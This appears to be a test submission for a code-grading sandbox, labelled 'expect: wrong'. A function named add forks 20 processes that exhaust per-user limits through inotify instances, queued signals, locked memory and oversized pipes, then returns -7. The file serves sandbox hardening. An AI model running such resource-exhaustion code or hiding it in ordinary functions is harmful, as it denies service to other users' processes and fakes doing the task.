# aim: what a user has only so much of: inotify instances, pending signals, timers, locked memory, pipes
# expect: wrong
import ctypes, os, resource, signal, socket, time

def add(a, b):
    libc = ctypes.CDLL(None)
    for _ in range(20):
        if os.fork() == 0:
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
            for _ in range(50):
                libc.inotify_init1(0)
            info = ctypes.create_string_buffer(128)
            info[8:12] = (-1).to_bytes(4, "little", signed=True)
            for _ in range(6000):
                libc.syscall(129, os.getpid(), 40, info)
            libc.mlockall(7)
            time.sleep(60)
    for _ in range(25):
        r, w = os.pipe()
        try:
            import fcntl
            fcntl.fcntl(w, 1031, 1 << 20)
        except OSError:
            pass
    time.sleep(0.5)
    return -7
